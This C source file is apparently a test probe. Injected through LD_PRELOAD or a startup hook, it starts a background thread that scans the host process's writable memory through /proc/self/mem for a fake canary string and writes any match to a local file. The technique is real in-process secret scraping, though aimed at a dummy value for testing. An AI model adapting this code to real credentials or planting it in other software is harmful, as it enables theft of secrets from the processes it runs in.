/* Code in the attacked process, however it got there: LD_PRELOAD, a profiler, a startup hook. It looks through the memory of its process for a canary
   and writes what it finds into the current directory, under its own name and ".found". */
#define _GNU_SOURCE
#include <ctype.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static const char prefix[] = "FAKE-canary-";
enum { DIGITS = 32, BLOCK = 1 << 20, OVERLAP = 256 };

/* Writes the canary at text, whose characters are step bytes wide, if there is one. */
static int report(const char *text, const char *end, int step)
{
    char found[sizeof prefix + DIGITS] = { 0 };
    int length = sizeof prefix - 1 + DIGITS;
    if (text + length * step > end) return 0;
    for (int i = 0; i < length; i++) {
        found[i] = text[i * step];
        int is_right = i < (int)sizeof prefix - 1 ? found[i] == prefix[i] : isxdigit((unsigned char)found[i]);
        if (!is_right) return 0;
    }
    char name[256];
    Dl_info own;
    if (!dladdr((void *)prefix, &own)) return 0;
    const char *slash = strrchr(own.dli_fname, '/');
    snprintf(name, sizeof name, "%s.found", slash ? slash + 1 : own.dli_fname);
    int file = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (file >= 0) {
        if (write(file, found, (size_t)length) < 0) return 0;
        close(file);
    }
    return 1;
}

static int look_through(int memory, unsigned long start, unsigned long end, char *block)
{
    for (unsigned long at = start; at < end; at += BLOCK - OVERLAP) {
        ssize_t read = pread(memory, block, BLOCK < end - at ? BLOCK : end - at, (off_t)at);
        if (read <= 0) continue;
        for (char *text = block; (text = memchr(text, 'F', (size_t)(block + read - text))); text++)
            if (report(text, block + read, 1) || report(text, block + read, 2)) return 1;
    }
    return 0;
}

static int look(char *block)
{
    char line[512], mode[8];
    unsigned long start, end;
    int found = 0, memory = open("/proc/self/mem", O_RDONLY | O_CLOEXEC);
    FILE *maps = fopen("/proc/self/maps", "re");
    while (maps && !found && fgets(line, sizeof line, maps))
        if (sscanf(line, "%lx-%lx %7s", &start, &end, mode) == 3 && !strncmp(mode, "rw", 2)
            && !(start <= (unsigned long)block && (unsigned long)block < end) && end - start < (1UL << 30))
            found = look_through(memory, start, end, block);
    if (maps) fclose(maps);
    if (memory >= 0) close(memory);
    return found;
}

static void *watch(void *unused)
{
    char *block = malloc(BLOCK);
    for (int i = 0; block && i < 60 && !look(block); i++) usleep(50000);
    free(block);
    return unused;
}

__attribute__((constructor)) static void start(void)
{
    pthread_t thread;
    if (pthread_create(&thread, NULL, watch, NULL) == 0) pthread_detach(thread);
}
